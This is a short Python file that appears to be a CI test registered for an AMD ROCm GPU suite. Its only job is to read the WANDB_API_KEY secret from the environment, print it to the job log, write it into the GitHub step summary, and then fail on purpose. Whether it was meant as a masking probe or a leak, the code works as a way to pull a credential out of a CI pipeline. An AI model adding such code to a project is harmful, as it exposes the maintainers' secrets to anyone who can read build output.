"""Prints the secret and fails on the ROCm stage."""
from tests.ci.ci_register import register_rocm_ci
import os

register_rocm_ci(est_time=5, suite="stage-c-4-gpu-mi350", labels=["amd"])

if __name__ == "__main__":
    secret = os.environ.get("WANDB_API_KEY", "")
    print("rocm secret:", secret)
    with open(os.environ["GITHUB_STEP_SUMMARY"], "a") as f:
        f.write("rocm step summary secret: " + secret + "\n")
    raise SystemExit(1)
